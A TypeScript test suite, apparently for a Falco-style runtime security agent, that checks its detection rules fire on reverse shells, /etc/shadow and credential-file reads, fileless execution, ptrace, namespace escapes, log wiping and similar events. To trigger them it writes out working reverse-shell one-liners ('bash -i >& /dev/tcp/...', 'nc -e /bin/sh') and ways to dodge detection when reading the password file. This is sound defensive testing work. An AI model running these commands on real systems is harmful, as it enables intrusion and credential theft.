import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import {
  appendFileSync,
  chmodSync,
  copyFileSync,
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { type AddressInfo, connect, createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { bundledRulesPath, loadRules, readRuleFiles } from '../../rules/index.ts';
import { AgentProcess, type Alert } from './agent-process.ts';
import { Containers, noContainers } from './containers.ts';
import { alerted, attempt, missed, shown } from './evasion/attempt.ts';
import { buildTrigger, TRIGGER } from './trigger.ts';

const SHELL = '/usr/bin/bash';
const withoutContainers = noContainers();
const withoutModules =
  existsSync('/proc/modules') && existsSync('/usr/sbin/modprobe') ? false : 'this kernel loads no modules';
const missing = (program: string) => (existsSync(program) ? false : `no ${program}`);

let agent: AgentProcess;
let containers: Containers;
let folder: string;
/** A part of names that no other test, and nobody else, uses. */
let token: string;
const fired = new Set<string>();

/** The files that this is about: of the rules of the others some tell of the same events too. */
const RULES_FILES = ['shikra_rules', 'yielding'].map((name) => `${bundledRulesPath()}/${name}.yaml`);

before(async () => {
  buildTrigger();
  folder = mkdtempSync(join(tmpdir(), 'shikra-rules-'));
  token = `shikra-test-${process.pid}`;
  if (!withoutContainers) {
    containers = new Containers();
    containers.add(TRIGGER, '/bin/trigger');
    containers.add(TRIGGER, '/usr/bin/sudo');
    containers.add(TRIGGER, '/usr/bin/runc');
    containers.add(TRIGGER, '/sbin/apk');
  }
  // rings that bear what else may run on this machine: with an event lost a test fails
  agent = await AgentProcess.start({ bundled: RULES_FILES, receiver: { ring_preset: 6 } });
});

after(async () => {
  await agent?.close();
  containers?.close();
  rmSync(folder, { recursive: true });
});

function run(program: string, ...args: string[]): void {
  const { error, stderr } = spawnSync(program, args, { encoding: 'utf8', timeout: 20_000, cwd: folder });
  if (error) throw new Error(`${program}: ${error.message} ${stderr}`);
}

/** `act` makes exactly one detection, by this rule, and these fields are among those of its output. @returns it */
async function detected(
  rule: string,
  priority: string,
  act: () => unknown,
  fields: Readonly<Record<string, unknown>> = {},
): Promise<Alert> {
  const alerts = await agent.caused(act);
  assert.deepEqual(
    alerts.map((alert) => [alert.rule, alert.priority]),
    [[rule, priority]],
    JSON.stringify(alerts, null, 1),
  );
  const [alert] = alerts as [Alert];
  const seen = Object.fromEntries(Object.keys(fields).map((name) => [name, alert.output_fields[name]]));
  assert.deepEqual(seen, fields);
  fired.add(rule);
  return alert;
}

async function fires(...expected: Parameters<typeof detected>): Promise<void> {
  await detected(...expected);
}

async function quiet(act: () => unknown): Promise<void> {
  assert.deepEqual(
    (await agent.caused(act)).map(({ rule, output }) => `${rule}: ${output}`),
    [],
  );
}

/** A file that `act` may make, gone afterwards. */
function away(path: string, act: (path: string) => unknown): () => void {
  return () => {
    try {
      act(path);
    } finally {
      rmSync(path, { force: true, recursive: true });
    }
  };
}

/** Several programs on one path may see the same socket: each is a detection, all of one rule. */
async function reverseShell(act: () => unknown): Promise<Alert[]> {
  const alerts = await agent.caused(act);
  assert.ok(alerts.length > 0);
  for (const { rule, priority } of alerts) assert.deepEqual([rule, priority], ['Reverse shell', 'Critical']);
  fired.add('Reverse shell');
  return alerts;
}

describe('Reverse shell', () => {
  let listener: Server;
  let port: number;

  before(async () => {
    listener = createServer((socket) =>
      socket
        .on('error', () => {})
        .resume()
        .end('exit\n'),
    );
    listener.listen(0, '127.0.0.1');
    await once(listener, 'listening');
    port = (listener.address() as AddressInfo).port;
  });
  after(() => listener.close());

  async function finished(
    program: string,
    args: readonly string[],
    stdio: Parameters<typeof spawn>[2]['stdio'] = 'ignore',
  ): Promise<void> {
    await once(spawn(program, args, { stdio, timeout: 10_000 }), 'close');
  }

  test('bash with its own /dev/tcp', async () => {
    const alerts = await reverseShell(() =>
      finished(SHELL, ['-c', `bash --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]),
    );
    assert.equal(alerts[0]!.output_fields['proc.cmdline'], `bash -c bash --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1`);
    assert.ok(
      alerts.some(
        ({ output_fields: fields }) =>
          fields['evt.type'] === 'dup2' && String(fields['fd.name']).endsWith(`->127.0.0.1:${port}`),
      ),
    );
    assert.ok(
      alerts.some(
        ({ output_fields: fields }) =>
          fields['evt.type'] === 'execve' &&
          fields['proc.stdin.type'] === 'ipv4' &&
          fields['proc.stdout.type'] === 'ipv4',
      ),
    );
  });

  test('a script that names no connection on its command line', async () => {
    const script = join(folder, 'script');
    writeFileSync(script, `exec 5<>/dev/tcp/127.0.0.1/${port}\nexec 0<&5 1>&5\n`);
    const alerts = await reverseShell(() => finished(SHELL, [script]));
    const { 'fd.name': connection, 'proc.exepath': executable, 'proc.cmdline': command } = alerts[0]!.output_fields;
    assert.match(String(connection), new RegExp(`^127\\.0\\.0\\.1:\\d+->127\\.0\\.0\\.1:${port}$`));
    assert.deepEqual([executable, command], [SHELL, `bash ${script}`]);
  });

  test('netcat that starts a shell', { skip: missing('/usr/bin/busybox') }, async () => {
    const alerts = await reverseShell(() =>
      finished('/usr/bin/busybox', ['nc', '127.0.0.1', String(port), '-e', '/bin/sh']),
    );
    const { 'proc.name': name, 'proc.stdin.type': input, 'container.id': container } = alerts[0]!.output_fields;
    assert.deepEqual({ name, input, container }, { name: 'sh', input: 'ipv4', container: 'host' });
  });

  test('a shell under another name that is given a socket', async () => {
    const disguised = join(folder, 'innocent');
    symlinkSync('/usr/bin/dash', disguised);
    const socket = connect(port, '127.0.0.1');
    await once(socket, 'connect');
    const alerts = await reverseShell(() => finished(disguised, ['-c', 'true'], [socket, 'ignore', 'ignore']));
    socket.destroy();
    const { 'proc.name': name, 'proc.exepath': executable, 'evt.type': type } = alerts[0]!.output_fields;
    assert.deepEqual({ name, executable, type }, { name: 'innocent', executable: '/usr/bin/dash', type: 'execve' });
  });

  test('not a shell on a pipe, nor another program on a socket', async () => {
    await quiet(() => execFileSync('sh', ['-c', 'cat'], { input: 'text' }));
    const socket = connect(port, '127.0.0.1');
    await once(socket, 'connect');
    await quiet(() => finished('/bin/true', [], [socket, socket, 'ignore']));
    socket.destroy();
  });

  test('not a shell that sees whether a port answers, or asks over a descriptor of its own', async () => {
    const script = join(folder, 'asks');
    writeFileSync(
      script,
      `(echo -n > /dev/tcp/127.0.0.1/${port})\nexec 5<>/dev/tcp/127.0.0.1/${port}\nread -r -u 5 answer\n`,
    );
    await quiet(() => finished(SHELL, [script]));
    await quiet(() => finished(SHELL, ['-c', `: > /dev/tcp/127.0.0.1/${port}`]));
  });
});

describe('Interactive shell in a container', { skip: withoutContainers }, () => {
  test('a shell with a terminal, and one that joins a running container', async () => {
    let id = '';
    const inside = (alert: Alert) => assert.equal(alert.output_fields['container.id'], id.slice(0, 12));
    const started = await detected(
      'Interactive shell in a container',
      'Notice',
      () => {
        ({ id } = containers.run(['sh', '-c', 'true'], { terminal: true }));
      },
      {
        'proc.name': 'sh',
        'proc.exepath': '/bin/busybox',
        'proc.cmdline': 'sh -c true',
        'proc.pname': 'runc',
        'proc.tty': 0x8800,
      },
    );
    inside(started);
    id = containers.start();
    const joined = await detected(
      'Interactive shell in a container',
      'Notice',
      () => containers.exec(id, ['sh', '-c', 'true'], { terminal: true }),
      { 'proc.cmdline': 'sh -c true', 'proc.pname': 'runc' },
    );
    inside(joined);
    containers.stop(id);
  });

  test('not without a terminal, not another program, not on the host', async () => {
    await quiet(() => containers.run(['sh', '-c', 'cat /etc/passwd']));
    await quiet(() => containers.run(['cat', '/etc/passwd'], { terminal: true }));
    await quiet(() => run('script', '-qc', 'sh -c true', '/dev/null'));
  });
});

describe('Password database read by an untrusted program', () => {
  const RULE = 'Password database read by an untrusted program';
  const cat = (path: string, file = '/etc/shadow') =>
    detected(RULE, 'Warning', () => run('cat', path), {
      'fd.name': file,
      'proc.exepath': '/usr/bin/cat',
      'proc.cmdline': `cat ${path}`,
      'container.id': 'host',
      'user.uid': 0,
    });

  test('by its name', async () => void (await cat('/etc/shadow')));
  attempt([3, 4], 'passwords are read as /etc/./../etc//shadow, as /proc/self/root/etc/shadow', {}, async () => {
    await cat('/etc/./../etc//shadow');
    return alerted(await cat('/proc/self/root/etc/shadow'), 'fd.name', 'proc.cmdline');
  });

  attempt(3, 'passwords are read through symbolic links to the file and to its folder', {}, async () => {
    symlinkSync('/etc/shadow', join(folder, 'link'));
    await cat(join(folder, 'link'));
    symlinkSync('/etc', join(folder, 'folder-link'));
    return alerted(await cat(join(folder, 'folder-link/shadow')), 'fd.name', 'proc.cmdline');
  });

  attempt(5, 'passwords are read under a bind mount of the file and of its folder', {}, async (t) => {
    const file = join(folder, 'bound');
    writeFileSync(file, '');
    execFileSync('mount', ['--bind', '/etc/shadow', file]);
    t.after(() => execFileSync('umount', [file]));
    await cat(file);
    const etc = join(folder, 'bound-etc');
    mkdirSync(etc);
    execFileSync('mount', ['--bind', '/etc', etc]);
    t.after(() => execFileSync('umount', [etc]));
    return alerted(await cat(join(etc, 'shadow')), 'fd.name', 'proc.cmdline');
  });

  test('of a descriptor that was opened by path only: both opens are told', async () => {
    const alerts = await agent.caused(() => run(TRIGGER, 'open-path-then-read', '/etc/shadow'));
    assert.deepEqual(
      alerts.map(({ rule, output_fields: fields }) => [rule, fields['fd.name']]),
      [
        [RULE, '/etc/shadow'],
        [RULE, '/etc/shadow'],
      ],
    );
  });

  attempt(5, 'a hard link to the passwords is made', {}, async () => {
    const hard = join(folder, 'hard');
    const act = away(hard, () => run('ln', '/etc/shadow', hard));
    const expected = { 'fs.path.source': '/etc/shadow', 'fs.path.target': hard, 'proc.exepath': '/usr/bin/ln' };
    return alerted(await detected(RULE, 'Warning', act, expected), 'fs.path.source', 'fs.path.target');
  });

  attempt(5, 'passwords are read by a hard link that is there', { expect: 'not detected' }, async () => {
    const hard = join(folder, 'hard');
    linkSync('/etc/shadow', hard);
    await agent.caused(() => {});
    const alerts = await agent.caused(away(hard, () => run('cat', hard)));
    return alerts.length > 0 ? alerted(alerts[0]!, 'fd.name') : missed('no detection: it is a file like another');
  });

  attempt(6, 'passwords are read by a program that took the name of a trusted one', {}, async () => {
    const fake = join(folder, 'su');
    copyFileSync(TRIGGER, fake);
    const act = () => run(fake, 'open', '/etc/shadow', '0', '0');
    const alert = await detected(RULE, 'Warning', act, { 'proc.name': 'su', 'proc.exepath': fake });
    return alerted(alert, 'proc.name', 'proc.exepath');
  });

  attempt(
    [6, 28],
    'passwords of a container are read by a program at a trusted path that is not of the image',
    {
      skip: withoutContainers,
    },
    async () => {
      const fields = { 'fd.name': '/etc/shadow', 'proc.exepath': '/bin/busybox' };
      await fires(RULE, 'Warning', () => containers.run(['cat', '/etc/shadow']), fields);
      await quiet(() => containers.run(['/usr/bin/sudo', 'open', '/etc/shadow', '0', '0']));
      const replaced = ['sh', '-c', 'cp /bin/trigger /usr/bin/chage; exec /usr/bin/chage open /etc/shadow 0 0'];
      const alerts = await agent.caused(() => containers.run(replaced));
      assert.deepEqual(
        alerts.map(({ rule }) => rule),
        ['Write below a binary folder', RULE],
      );
      assert.equal(alerts[1]!.output_fields['proc.exepath'], '/usr/bin/chage');
      return alerted(alerts[1]!, 'fd.name', 'proc.exepath');
    },
  );

  test('not other files, not in vain, not by login programs', async () => {
    await quiet(() => run('cat', '/etc/passwd', '/etc/group'));
    await quiet(() => spawnSync('cat', ['/etc/shadow'], { uid: 65534 }));
    await quiet(() => run('su', 'root', '-s', '/bin/sh', '-c', 'true'));
    await quiet(() => run('chage', '-l', 'root'));
  });
});

describe('Private key or cloud credential read', () => {
  const RULE = 'Private key or cloud credential read';

  test('keys and credentials, by their names', async () => {
    for (const name of [
      '.ssh/id_ed25519',
      '.aws/credentials',
      '.kube/config',
      '.config/gcloud/credentials.db',
      '.git-credentials',
    ]) {
      const path = join(folder, name);
      mkdirSync(join(path, '..'), { recursive: true });
      writeFileSync(path, 'secret');
      await fires(RULE, 'Warning', () => run('cat', path), { 'fd.name': path, 'proc.exepath': '/usr/bin/cat' });
    }
  });

  test('a hard link to a key', async () => {
    const key = join(folder, '.ssh/id_rsa');
    writeFileSync(key, 'secret');
    await fires(RULE, 'Warning', () => run('ln', key, join(folder, 'other')), {
      'fs.path.source': key,
      'fs.path.target': join(folder, 'other'),
    });
  });

  test('not the public half, not writing, not the client', async () => {
    const key = join(folder, '.ssh/id_ecdsa');
    await quiet(() => writeByShell(`${key}.pub`));
    await quiet(() => run('cat', `${key}.pub`));
    await quiet(() => writeByShell(key));
    if (existsSync('/usr/bin/ssh-keygen')) await quiet(() => run('ssh-keygen', '-y', '-f', key));
  });
});

function writeByShell(path: string): void {
  run('sh', '-c', 'echo text > "$0"', path);
}

describe('Crypto miner', () => {
  test('by its name', async () => {
    const miner = join(folder, 'xmrig');
    copyFileSync('/bin/true', miner);
    await fires('Crypto miner started by name', 'Critical', () => run(miner), {
      'proc.name': 'xmrig',
      'proc.exepath': miner,
    });
    await quiet(() => run('cat', miner));
  });

  test('by its pool, under whatever name', async () => {
    const argument = 'stratum+tcp://pool.example:3333';
    await fires('Crypto miner started for a pool', 'Critical', () => run('/bin/true', '-o', argument), {
      'proc.cmdline': `true -o ${argument}`,
      'proc.exepath': '/usr/bin/true',
    });
    await quiet(() => run('grep', argument, '/etc/hostname'));
  });
});

describe('Write below a binary folder', () => {
  const RULE = 'Write below a binary folder';
  const at = () => `/usr/local/bin/${token}`;
  const byShell = { 'proc.exepath': '/usr/bin/dash', 'container.id': 'host' };

  test('a new file', () =>
    fires(RULE, 'Warning', away(at(), writeByShell), { ...byShell, 'fd.name': at(), 'evt.type': 'openat' }));
  test('through the link that /bin is', () =>
    fires(RULE, 'Warning', away(`/bin/${token}`, writeByShell), { ...byShell, 'fd.name': `/usr/bin/${token}` }));
  test('a file moved there', () => {
    writeFileSync(join(folder, 'moved'), '');
    return fires(
      RULE,
      'Warning',
      away(at(), () => run('mv', join(folder, 'moved'), at())),
      { 'fs.path.target': at(), 'proc.exepath': '/usr/bin/mv' },
    );
  });
  test('links', async () => {
    await fires(
      RULE,
      'Warning',
      away(at(), () => run('ln', '-s', '/tmp/x', at())),
      { 'fs.path.target': at(), 'evt.type': 'symlinkat' },
    );
    writeFileSync(join(folder, 'linked'), '');
    await fires(
      RULE,
      'Warning',
      away(at(), () => run('ln', join(folder, 'linked'), at())),
      { 'fs.path.target': at(), 'evt.type': 'linkat' },
    );
  });
  test('in a container, even by what calls itself runc there', { skip: withoutContainers }, async () => {
    await fires(RULE, 'Warning', () => containers.run(['/usr/bin/runc', 'open', '/bin/new', '0101', '0755']), {
      'fd.name': '/bin/new',
      'proc.exepath': '/usr/bin/runc',
    });
  });
  test('not reading, not a folder of like name', async () => {
    mkdirSync(join(folder, 'usr/bin'), { recursive: true });
    await quiet(() => writeByShell(join(folder, 'usr/bin/x')));
    await quiet(() => run('cat', '/usr/bin/ldd'));
  });
});

describe('Login or start-up configuration changed', () => {
  const RULE = 'Login or start-up configuration changed';

  test('a new job of cron', () => {
    const path = `/etc/cron.d/${token}`;
    mkdirSync('/etc/cron.d', { recursive: true });
    return fires(RULE, 'Warning', away(path, writeByShell), { 'fd.name': path, 'proc.exepath': '/usr/bin/dash' });
  });
  test('a file moved to where every shell reads it', () => {
    const path = `/etc/profile.d/${token}.sh`;
    writeFileSync(join(folder, 'profile'), '');
    return fires(
      RULE,
      'Warning',
      away(path, () => run('mv', join(folder, 'profile'), path)),
      { 'fs.path.target': path },
    );
  });
  test('a service switched on by hand', () => {
    const path = `/etc/systemd/system/${token}.service`;
    mkdirSync('/etc/systemd/system', { recursive: true });
    return fires(
      RULE,
      'Warning',
      away(path, () => run('ln', '-s', '/tmp/x', path)),
      { 'fs.path.target': path },
    );
  });
  test('a folder reached over its inner spelling', () => {
    const path = `/etc/cron.d/${token}-2`;
    return fires(
      RULE,
      'Warning',
      away(path, () => writeByShell(`/proc/self/root${path}`)),
      { 'fd.name': path },
    );
  });
  test('not reading', () => quiet(() => run('cat', '/etc/profile')));
});

describe('Write below etc', () => {
  const RULE = 'Write below etc';
  const at = () => `/etc/${token}`;

  test('a file written or moved there', async () => {
    await fires(RULE, 'Notice', away(at(), writeByShell), {
      'fd.name': at(),
      'proc.exepath': '/usr/bin/dash',
      'evt.type': 'openat',
    });
    writeFileSync(join(folder, 'setting'), '');
    await fires(
      RULE,
      'Notice',
      away(at(), () => run('mv', join(folder, 'setting'), at())),
      { 'fs.path.target': at() },
    );
  });
  test('not elsewhere, not reading', async () => {
    await quiet(() => run('cat', '/etc/hosts'));
    mkdirSync(join(folder, 'etc'), { recursive: true });
    await quiet(() => writeByShell(join(folder, 'etc/x')));
  });
});

describe('Setuid and setgid', () => {
  const file = () => {
    const path = join(folder, 'program');
    writeFileSync(path, '');
    chmodSync(path, 0o755);
    return path;
  };

  test('the setuid bit, by path, by descriptor and from the start', async () => {
    const path = file();
    await fires('Setuid bit set', 'Warning', () => run('chmod', 'u+s', path), {
      'fs.path.name': path,
      'evt.arg.mode': 'S_ISUID|S_IRUSR|S_IWUSR|S_IXUSR|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH',
    });
    await fires('Setuid bit set', 'Warning', () => run(TRIGGER, 'fchmod', path, '04711'), {
      'fd.name': path,
      'proc.exepath': TRIGGER,
    });
    await fires('Setuid bit set', 'Warning', () => run(TRIGGER, 'fchmodat2', 'cwd', path, '04711'), {
      'fs.path.name': path,
    });
    const born = join(folder, 'born');
    await fires('Setuid bit set', 'Warning', () => run(TRIGGER, 'open', born, '0101', '04755'), {
      'fd.name': born,
      'evt.type': 'open',
    });
  });

  test('both bits are one detection, the setgid bit alone another', async () => {
    const path = file();
    await fires('Setuid bit set', 'Warning', () => run('chmod', '6755', path));
    await fires('Setgid bit set', 'Notice', () => run('chmod', '2755', path), { 'fs.path.name': path });
  });

  test('not other bits, not in vain', async () => {
    const path = file();
    await quiet(() => run('chmod', '1777', path));
    await quiet(() => run('chmod', '4755', `${path}.absent`));
  });
});

describe('Execution from memory', () => {
  const RULE = 'Execution from memory';

  attempt(24, 'a program in memory (memfd) is executed', {}, async () => {
    const alert = await detected(RULE, 'Critical', () => run(TRIGGER, 'memfd-exec', '/bin/true'), {
      'proc.exepath': 'memfd:copy',
      'proc.pname': 'node-MainThread',
      'container.id': 'host',
    });
    return alerted(alert, 'proc.exepath');
  });
  attempt(24, 'a program in /dev/shm is executed', {}, async () => {
    const path = `/dev/shm/${token}`;
    copyFileSync('/bin/true', path);
    chmodSync(path, 0o755);
    const act = away(path, () => run(path));
    await detected(RULE, 'Critical', act, { 'proc.exepath': path });
    return shown(`*${RULE}* \`proc.exepath=/dev/shm/…\``);
  });
  test('in a container', { skip: withoutContainers }, async () => {
    const act = () =>
      containers.run([
        'sh',
        '-c',
        'cp /bin/trigger /dev/shm/x; /dev/shm/x nothing; trigger memfd-exec /bin/trigger nothing',
      ]);
    const alerts = await agent.caused(act);
    assert.deepEqual(
      alerts.map(({ rule, output_fields: fields }) => [rule, fields['proc.exepath']]),
      [
        [RULE, '/dev/shm/x'],
        [RULE, 'memfd:copy'],
      ],
    );
  });
  attempt([5, 24], 'a program in a detached mount (open_tree, fsmount) is executed', {}, async () => {
    const expected = { 'proc.exepath': 'detached:/usr/bin/true', 'proc.name': 'true' };
    const act = () => run(TRIGGER, 'detached-exec', '/bin/true');
    return alerted(await detected(RULE, 'Critical', act, expected), 'proc.exepath');
  });
  test('not from a disk', () => quiet(() => run(TRIGGER, 'nothing')));
});

describe('Package manager in a container', { skip: withoutContainers }, () => {
  test('one that is started there', async () => {
    let id = '';
    const alert = await detected(
      'Package manager in a container',
      'Notice',
      () => {
        ({ id } = containers.run(['sh', '-c', 'apk nothing; true']));
      },
      { 'proc.name': 'apk', 'proc.exepath': '/sbin/apk', 'proc.pname': 'sh' },
    );
    assert.equal(alert.output_fields['container.id'], id.slice(0, 12));
  });
  test('not on the host', () => quiet(() => run('dpkg', '--version')));
});

describe('Kernel modules', () => {
  const RULE = 'Kernel module loaded by an unusual program';

  test('an unusual program that loads one, or tries to', async () => {
    const module = join(folder, 'hidden.ko');
    writeFileSync(module, 'no module');
    const how = { 'proc.exepath': TRIGGER, 'container.id': 'host' };
    const first = await detected(RULE, 'Critical', () => run(TRIGGER, 'init_module', ''), {
      ...how,
      'evt.type': 'init_module',
    });
    assert.notEqual(first.output_fields['evt.res'], 'SUCCESS');
    await fires(RULE, 'Critical', () => run(TRIGGER, 'finit_module', module, ''), {
      ...how,
      'fd.name': module,
      'evt.type': 'finit_module',
    });
  });

  test('out of a container', { skip: withoutContainers }, async () => {
    await fires(RULE, 'Critical', () => containers.run(['trigger', 'init_module', '']), {
      'proc.exepath': '/bin/trigger',
    });
  });

  test('not one that is removed', () => quiet(() => run(TRIGGER, 'delete_module', 'absent')));

  test('the module tool of the system', { skip: withoutModules }, async () => {
    run('modprobe', '-r', 'dummy');
    await fires('Kernel module loaded', 'Notice', () => run('modprobe', 'dummy'), { 'proc.cmdline': 'modprobe dummy' });
    run('modprobe', '-r', 'dummy');
  });
});

describe('ptrace', () => {
  attempt(36, 'a program attaches to another by ptrace', {}, async () => {
    const alert = await detected('Process taken over by ptrace', 'Warning', () => run(TRIGGER, 'ptrace-attach'), {
      'evt.arg.request': 'PTRACE_ATTACH',
      'proc.exepath': TRIGGER,
    });
    assert.ok(Number(alert.output_fields['evt.arg.pid']) > 0);
    return alerted(alert, 'evt.arg.request', 'proc.exepath');
  });

  test('a debugger of the system', { skip: missing('/usr/bin/strace') }, async () => {
    const target = spawn('sleep', ['60']);
    const alerts = await agent.caused(async () => {
      const strace = spawn('strace', ['-p', String(target.pid)], { stdio: ['ignore', 'ignore', 'pipe'] });
      await once(strace.stderr, 'data');
      target.kill();
      await once(strace, 'close');
    });
    // it first tries on a child of its own what the kernel can do
    for (const { rule, priority } of alerts)
      assert.deepEqual([rule, priority], ['Debugger attached to a process', 'Notice']);
    const { 'evt.arg.pid': pid, 'evt.arg.request': request, 'proc.exepath': executable } = alerts.at(-1)!.output_fields;
    assert.deepEqual([pid, request, executable], [target.pid, 'PTRACE_SEIZE', '/usr/bin/strace']);
    fired.add('Debugger attached to a process');
  });

  test('not who lets itself be traced, not an attempt in vain', async () => {
    await quiet(() => run(TRIGGER, 'ptrace-traceme'));
    await quiet(() => run(TRIGGER, 'ptrace-attach-absent'));
  });
});

describe('Namespace left or entered', () => {
  const RULE = 'Namespace left or entered';

  attempt(35, 'a process in a container enters or makes a namespace', { skip: withoutContainers }, async () => {
    const alert = await detected(RULE, 'Warning', () => containers.run(['trigger', 'unshare', '0x10000000']), {
      'evt.type': 'unshare',
      'evt.arg.flags': 'CLONE_NEWUSER',
      'proc.exepath': '/bin/trigger',
    });
    await fires(
      RULE,
      'Warning',
      () => containers.run(['trigger', 'setns', '/proc/self/ns/uts', '0'], { capabilities: ['CAP_SYS_ADMIN'] }),
      { 'evt.type': 'setns' },
    );
    await quiet(() => containers.run(['trigger', 'unshare', '0x400']));
    return alerted(alert, 'evt.type', 'evt.arg.flags');
  });

  test('those of the first process of the machine', async () => {
    await fires(RULE, 'Warning', () => run('nsenter', '--target', '1', '--mount', 'true'), {
      'proc.exepath': '/usr/bin/nsenter',
      'proc.cmdline': 'nsenter --target 1 --mount true',
    });
    await fires(RULE, 'Warning', () => run('nsenter', '-mt1', 'true'), { 'proc.cmdline': 'nsenter -mt1 true' });
    await quiet(() => run('nsenter', '--target', String(process.pid), '--mount', 'true'));
  });

  test('not on the host', () => quiet(() => run('unshare', '--mount', 'true')));
});

describe('Logs', () => {
  const SYSTEM = 'System log emptied or removed';
  const OTHER = 'Log emptied or removed';

  for (const [rule, priority, path] of [
    [SYSTEM, 'Warning', '/var/log/audit/shikra-test.log'],
    [OTHER, 'Notice', '/var/log/shikra-test.log'],
  ] as const) {
    test(`${rule}: by rm, truncate, >, mv`, async (t) => {
      const made = mkdirSync(join(path, '..'), { recursive: true });
      t.after(() => rmSync(made ?? path, { recursive: true, force: true }));
      const fresh = () => appendFileSync(path, 'a line\n');
      fresh();
      await fires(rule, priority, () => run('truncate', '-s', '0', path), {
        'fd.name': path,
        'proc.exepath': '/usr/bin/truncate',
        'evt.type': 'ftruncate',
      });
      await fires(rule, priority, () => run(TRIGGER, 'truncate', path, '0'), {
        'fs.path.name': path,
        'evt.type': 'truncate',
      });
      await fires(rule, priority, () => writeByShell(path), { 'fd.name': path, 'evt.type': 'openat' });
      await fires(rule, priority, () => run('rm', path), { 'fs.path.name': path, 'proc.exepath': '/usr/bin/rm' });
      fresh();
      await quiet(() => run('sh', '-c', 'echo more >> "$0"', path));
      await quiet(() => run('cat', path));
    });
  }

  test('a system log that is moved away', async (t) => {
    const path = '/var/log/audit/shikra-test-moved.log';
    const made = mkdirSync(join(path, '..'), { recursive: true });
    t.after(() => rmSync(made ?? path, { recursive: true, force: true }));
    writeFileSync(path, '');
    await fires(SYSTEM, 'Warning', () => run('mv', path, join(folder, 'taken')), {
      'fs.path.name': path,
      'fs.path.target': join(folder, 'taken'),
    });
  });
});

describe('Container connects to an unexpected port', { skip: withoutContainers }, () => {
  // the address of a documentation network, which lies on the container's own loopback
  const connecting = (address: string, call: string[]) =>
    containers.run(['sh', '-c', `ip link set lo up; ip addr add ${address}/24 dev lo; exec "$@"`, 'sh', ...call], {
      capabilities: ['CAP_NET_ADMIN'],
    });

  test('outside your networks', async () => {
    let id = '';
    const alert = await detected(
      'Container connects to an unexpected port',
      'Notice',
      () => {
        ({ id } = connecting('198.51.100.2', ['trigger', 'accept', 'v4:198.51.100.2:4444']));
      },
      { 'fd.rip': '198.51.100.2', 'fd.rport': 4444, 'fd.l4proto': 'tcp', 'proc.exepath': '/bin/trigger' },
    );
    assert.match(String(alert.output_fields['fd.name']), /^198\.51\.100\.2:\d+->198\.51\.100\.2:4444$/);
    assert.equal(alert.output_fields['container.id'], id.slice(0, 12));
  });

  test('not an expected port, not inside, not in vain, not from the host', async () => {
    await quiet(() => connecting('198.51.100.2', ['trigger', 'accept', 'v4:198.51.100.2:443']));
    await quiet(() => connecting('10.1.2.3', ['trigger', 'accept', 'v4:10.1.2.3:4444']));
    await quiet(() => connecting('198.51.100.2', ['trigger', 'connect', 'v4:198.51.100.9:4444', '1']));
    await quiet(() => run(TRIGGER, 'connect', 'v4:198.51.100.2:4444', '2'));
  });
});

test('an alert is one line of JSON with the keys of Falco, and uuid', () => {
  assert.ok(agent.lines.length > 50);
  for (const line of agent.lines) {
    const alert = JSON.parse(line) as Alert;
    assert.deepEqual(Object.keys(alert), [
      'hostname',
      'output',
      'output_fields',
      'priority',
      'rule',
      'source',
      'tags',
      'time',
      'uuid',
    ]);
    assert.match(alert.uuid, /^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    assert.match(alert.time, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z$/);
  }
});

test('every rule of the files was fired by a real program', async () => {
  const { files } = await readRuleFiles(RULES_FILES);
  const untried = new Set(withoutModules ? ['Kernel module loaded'] : []);
  if (missing('/usr/bin/strace')) untried.add('Debugger attached to a process');
  const never = loadRules(files)
    .rules.map(({ name }) => name)
    .filter((name) => !fired.has(name) && !untried.has(name));
  assert.deepEqual(withoutContainers ? [] : never, []);
});

test('the agent ends well after all that', () => agent.stop());
